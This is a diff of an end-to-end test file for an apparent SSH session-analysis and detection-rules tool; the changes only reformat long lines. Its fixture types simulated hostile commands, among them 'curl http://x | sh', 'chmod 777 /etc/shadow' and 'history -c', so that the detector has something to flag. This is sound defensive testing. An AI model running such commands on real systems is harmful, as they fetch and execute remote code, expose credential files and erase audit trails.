@@ -36,7 +36,10 @@ async function signedIn(role: "admin" | "auditor" | "user") {
 }
 
 async function analyzedSshSession(userId: string | null = null) {
-  const { events, enters } = typeLines(["ls", "sudo su -", "chmod 777 /etc/shadow", "history -c", "curl http://x | sh", "mysql -u root -p", { masked: 8 }], 61_000);
+  const { events, enters } = typeLines(
+    ["ls", "sudo su -", "chmod 777 /etc/shadow", "history -c", "curl http://x | sh", "mysql -u root -p", { masked: 8 }],
+    61_000,
+  );
   const session = await insertSession({ protocol: "ssh", userId, events });
   await analyzeSession({ sessionId: session.id });
   return { session, enters };
@@ -92,14 +95,20 @@ describe("vulnerability analysis", () => {
     await form.getByLabel("Attempts (N)").fill("3");
     await form.getByLabel("MITRE ATT&CK technique").fill("T1485");
     await form.getByRole("button", { name: "Add rule" }).click();
-    await form.getByRole("status").filter({ hasText: `Saved as rules version ${version + 1}` }).waitFor();
+    await form
+      .getByRole("status")
+      .filter({ hasText: `Saved as rules version ${version + 1}` })
+      .waitFor();
     const row = page.locator('tr[data-rule-name="Vendor tool wipe"]');
     await row.waitFor();
     await expect(row.innerText()).resolves.toContain("Interrupt after 3 attempts");
 
     // Disable it: the version moves again.
     await row.getByRole("button", { name: "Disable" }).click();
-    await page.getByTestId("rules-version").filter({ hasText: `Rules version ${version + 2}` }).waitFor();
+    await page
+      .getByTestId("rules-version")
+      .filter({ hasText: `Rules version ${version + 2}` })
+      .waitFor();
     await row.getByRole("button", { name: "Enable" }).waitFor();
 
     // Edit it on its own page.
@@ -109,7 +118,10 @@ describe("vulnerability analysis", () => {
     await expect(edit.getByLabel("Attempts (N)").inputValue()).resolves.toBe("3");
     await edit.getByLabel("Score").fill("45");
     await edit.getByRole("button", { name: "Save rule" }).click();
-    await edit.getByRole("status").filter({ hasText: `Saved as rules version ${version + 3}` }).waitFor();
+    await edit
+      .getByRole("status")
+      .filter({ hasText: `Saved as rules version ${version + 3}` })
+      .waitFor();
     await page.goto(`${app.url}/settings/rules`);
     await expect(page.locator('tr[data-rule-name="Vendor tool wipe"] td').nth(4).innerText()).resolves.toBe("45");
   });
